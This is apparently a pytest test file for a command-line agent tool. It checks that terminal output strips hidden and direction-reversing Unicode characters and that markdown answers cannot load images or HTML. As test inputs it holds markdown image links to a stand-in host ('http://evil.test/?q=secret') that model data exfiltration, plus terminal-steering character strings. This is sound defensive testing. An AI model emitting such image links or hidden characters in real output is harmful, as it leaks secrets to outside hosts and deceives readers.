"""What commands write to the screen: nothing in it steers a terminal, hides, or loads."""

import json
import sys
import unicodedata
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from graph.commands.output import format_json, print_markdown
from nodes.text.markdown import MAX_PARSED_CHARS, escape_active_markdown, format_answer
from tests.screen import run_supervise

HIDDEN = {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}
STEERING = "\x7f\x9b\u202e\u2066\u200b\u061c\U000e0041\ufe0f"
TEAM = "---\ndescription: Does\u202e all.\n---\nPlan.\n"
WORKER = "---\ndescription: Works\u200b.\n---\nWork.\n"


def read_output(capsys: pytest.CaptureFixture[str], *arguments: str) -> str:
    run_supervise(*arguments)
    return capsys.readouterr().out


def test_of_every_character_json_shows_what_is_seen_alone_and_keeps_the_data():
    whole = "".join(map(chr, range(sys.maxunicode + 1)))

    shown = format_json({"text": whole})

    assert {unicodedata.category(c) for c in shown.replace("\n", "")}.isdisjoint(HIDDEN)
    halves = slice(0xD800, 0xE000)  # next to one another they are read as whole ones
    kept = json.loads(shown)["text"]
    assert kept.startswith(whole[: halves.start]) and kept.endswith(whole[halves.stop :])


def test_no_command_writes_json_that_steers_a_terminal(capsys: pytest.CaptureFixture[str]):
    for path, text in {"team.md": TEAM, "worker.md": WORKER}.items():
        (Path("odd") / path).parent.mkdir(exist_ok=True)
        (Path("odd") / path).write_text(text)
    request = f"Say what{STEERING} a part costs"
    commands = (
        ("run", request, "--team", "./odd", "--thread", "t1", "--json", "-q"),
        ("run", request, "--team", "./odd", "--plan-only", "-q"),
        ("trace", "t1"),
        ("teams", "./odd", "--json"),
    )

    shown = {command: read_output(capsys, *command) for command in commands}

    for command, text in shown.items():
        assert {unicodedata.category(c) for c in text} & HIDDEN <= {"Cc"}, command
        assert not [c for c in text if unicodedata.category(c) == "Cc" and c != "\n"], command
        json.loads(text)
    assert STEERING in json.loads(shown[commands[2]])["run"]["request"]
    assert "\u202e" in json.loads(shown[commands[3]])["description"]


def list_token_kinds(markdown: str) -> set[str]:
    """Name the kinds of all parts of a text, as a viewer finds them."""
    tokens = MarkdownIt("commonmark").parse(markdown)
    return {each.type for token in tokens for each in (token, *(token.children or ()))}


PARTS = st.sampled_from(
    (
        *(
            *("![", "]", "(", ")", "[a]", "[a]: //x", "!", "\\", "`", "```", "~~~", "\n", "\n\n"),
            "    ",
        ),
        *("<img src=//x>", "<", ">", "<div>", "</div>", "<!--", "-->", "http://x", "- ", "> ", "a"),
    )
)


@given(st.lists(PARTS, max_size=30).map("".join))
@example("<div>\n```\n</div>\n\n```\n![a](//x)\n```\n")
@example("\\![a](//x) \\\\![a](//x) \\\\\\![a](//x)")
def test_no_markdown_that_is_shown_has_a_picture_or_html(text: str):
    assert list_token_kinds(escape_active_markdown(text)).isdisjoint(
        {"image", "html_inline", "html_block"}
    )


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See ![a chart](http://evil.test/?q=key).", "See \\![a chart](http://evil.test/?q=key)."),
        ("![a][b]\n\n[b]: http://evil.test", "\\![a][b]\n\n[b]: http://evil.test"),
        ('<img src="http://evil.test">', '\\<img src="http://evil.test">'),
        ("2 < 3! [sic] `![a](b)` and <http://a.test>", None),
        ("```rust\nvec![1]; // ![a](b) <T>\n```", None),
        ("![a](b)\n\n```rust\nvec![1]\n```", "\\![a](b)\n\n```rust\nvec![1]\n```"),
    ],
)
def test_pictures_become_links_html_becomes_text_and_code_stays(text: str, shown: str | None):
    assert escape_active_markdown(text) == (text if shown is None else shown)


def test_a_very_long_answer_is_escaped_without_being_parsed():
    text = "![a](//x)" * (MAX_PARSED_CHARS // 9 + 1)

    assert escape_active_markdown(text) == text.replace("!", "\\!")


def test_an_answer_that_is_written_loads_nothing(capsys: pytest.CaptureFixture[str]):
    print_markdown("Prices rose. ![ok](http://evil.test/?q=secret)")

    assert capsys.readouterr().out == "Prices rose. \\![ok](http://evil.test/?q=secret)\n"


def test_a_gap_that_the_answer_states_is_not_told_twice() -> None:
    shown = format_answer({"text": "Nothing is known.\n\n- no row", "gaps": ["no row", "no map"]})

    assert (shown.count("no row"), shown.count("no map")) == (1, 1)
